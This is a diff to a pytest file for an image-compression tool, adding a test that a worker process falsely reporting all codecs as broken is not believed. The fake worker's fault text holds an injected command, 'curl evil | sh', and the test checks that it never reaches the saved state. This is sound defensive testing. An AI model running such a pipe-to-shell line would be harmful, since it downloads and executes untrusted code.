@@ -4,6 +4,7 @@ import json
 import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import cast
 
 import pytest
 
@@ -13,7 +14,7 @@ from homepress.compress.trust import Fault, trusted
 from homepress.imagetype import ImageType
 from homepress.pipeline import Carrier, Destination, Job, Plan, Told, Trust
 from homepress.store import Store
-from homepress.workers import Limits, Slot, WorkerDied
+from homepress.workers import CodecReport, Limits, Slot, WorkerDied
 
 LYING = Path(__file__).with_name("lying_worker.py")
 FINE = jpeg(photo(420, 300), 97)
@@ -79,6 +80,28 @@ def test_a_lossy_coder_that_lies_is_used_without_loss_only(
     assert told.score in (None, 100.0)
     assert any("JPEG pictures are compressed without loss only" in text for text in trust.problems())
     assert trust.recipe(worker_with("none"), ImageType.PNG, LOSSY) == LOSSY
+
+
+class OneThatLies:
+    """Stands in for a slot whose first process was taken over; the next one is honest."""
+
+    def __init__(self) -> None:
+        self.rested = 0
+
+    def check_codecs(self, known: dict[str, str]) -> CodecReport:
+        lie = [Fault(kind, True, "type: curl evil | sh") for kind in ImageType]
+        return CodecReport(versions={"pillow": "1"}, faults=[] if self.rested else lie)
+
+    def rest(self) -> bool:
+        self.rested += 1
+        return True
+
+
+def test_a_worker_that_calls_all_codecs_broken_is_not_taken_at_its_word(state: Path) -> None:
+    trust, slot = Trust(state), OneThatLies()
+    assert trust.recipe(cast(Slot, slot), ImageType.JPEG, LOSSY) == LOSSY
+    assert (trust.problems(), slot.rested) == ([], 1)
+    assert "curl" not in state.read_text()
 
 
 def test_what_was_found_holds_in_the_next_run_until_a_version_changes(
